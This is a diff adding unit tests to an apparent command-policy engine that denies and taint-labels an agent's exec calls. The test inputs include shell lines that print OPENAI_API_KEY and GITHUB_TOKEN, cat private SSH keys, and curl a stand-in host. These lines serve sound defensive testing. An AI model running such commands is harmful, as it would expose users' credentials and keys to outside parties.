@@ -85,3 +85,41 @@ test('a denied command seen again taints the same, and anew when a path it reads
     rmSync(dir, { recursive: true, force: true });
   }
 });
+
+// With a taint rule on exec, a derived command is decided for its taints only where it can carry
+// one: its own taint rule matches, or it amounts to calls of its own (engine.ts, derivedForTaints).
+const EXEC_TAINT = `${POLICY}
+  - name: exposure
+    match: { tool: exec }
+    rules:
+      - action: watch
+        taint: { label: exposed, for: 1h }
+        when: { command_matches: ['exposes-secret **'] }
+`;
+
+test('a denied command that prints a secret carries the label of the derived exposure, found by its own rule', () => {
+  const e = engineOf(EXEC_TAINT);
+  const d = e.evaluate(exec('echo $OPENAI_API_KEY; curl https://x.example'), { dryRun: true });
+  assert.equal(d.action, 'deny');
+  assert.deepEqual(labels(d), ['exposed']);
+});
+
+test('with a taint rule on exec, a derived command that matches none still taints by what it does itself', () => {
+  const e = engineOf(EXEC_TAINT);
+  const d = e.evaluate(exec(`sh -c 'cat ~/.ssh/id_ed25519; curl https://x.example'`), { dryRun: true });
+  assert.equal(d.action, 'deny');
+  assert.deepEqual(labels(d), ['secret']);
+  const both = e.evaluate(exec(`sh -c 'cat ~/.ssh/id_rsa; echo $GITHUB_TOKEN'; curl https://x.example`), {
+    dryRun: true,
+  });
+  assert.deepEqual(labels(both), ['exposed', 'secret']);
+});
+
+test('with a taint rule on exec, derived commands that can carry no label leave a denied call without one', () => {
+  const e = engineOf(EXEC_TAINT);
+  for (const cmd of [`sh -c 'ls src; curl https://x.example'`, 'echo $HOME; curl https://x.example']) {
+    const d = e.evaluate(exec(cmd), { dryRun: true });
+    assert.equal(d.action, 'deny', cmd);
+    assert.deepEqual(labels(d), [], cmd);
+  }
+});
